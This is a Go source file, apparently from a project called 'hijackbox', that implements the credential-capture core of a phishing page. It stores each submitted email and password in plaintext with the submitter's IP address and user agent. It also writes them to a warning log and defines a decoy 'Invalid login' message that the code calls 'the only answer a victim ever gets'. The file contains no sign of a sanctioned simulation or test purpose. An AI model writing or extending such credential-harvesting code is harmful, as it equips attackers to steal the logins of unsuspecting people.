package harvest

import (
	"context"
	"fmt"
	"time"

	"github.com/andrebq/hijackbox/internal/logutil"
)

type (
	Capture struct {
		Email      string    `json:"email"`
		Password   string    `json:"password"`
		CapturedAt time.Time `json:"capturedAt"`
		RemoteAddr string    `json:"remoteAddr,omitempty"`
		UserAgent  string    `json:"userAgent,omitempty"`
	}

	// Source describes where a submission came from
	Source struct {
		RemoteAddr string
		UserAgent  string
	}

	// Log is an append-only sequence of captures.
	//
	// Append must not lose entries under concurrent calls and List must
	// return them in the order they were appended.
	Log interface {
		Append(ctx context.Context, c Capture) error
		List(ctx context.Context) ([]Capture, error)
		Len(ctx context.Context) (int, error)
	}

	Harvester struct {
		log Log
		now func() time.Time
	}
)

const (
	// DecoyFailure is the only answer a victim ever gets
	DecoyFailure = "Invalid login, please try again."
)

func New(log Log) *Harvester {
	return &Harvester{log: log, now: time.Now}
}

// WithClock replaces the clock used to stamp captures
func (h *Harvester) WithClock(now func() time.Time) *Harvester {
	h.now = now
	return h
}

// Capture records the submission as is, empty fields included.
func (h *Harvester) Capture(ctx context.Context, email, password string, src Source) error {
	c := Capture{
		Email:      email,
		Password:   password,
		CapturedAt: h.now().UTC(),
		RemoteAddr: src.RemoteAddr,
		UserAgent:  src.UserAgent,
	}
	if err := h.log.Append(ctx, c); err != nil {
		return fmt.Errorf("unable to store capture, cause %w", err)
	}
	logutil.GetOrDefault(ctx).Warn().
		Str("email", email).
		Str("password", password).
		Str("remote_addr", src.RemoteAddr).
		Msg("Credentials harvested")
	return nil
}

func (h *Harvester) List(ctx context.Context) ([]Capture, error) {
	return h.log.List(ctx)
}
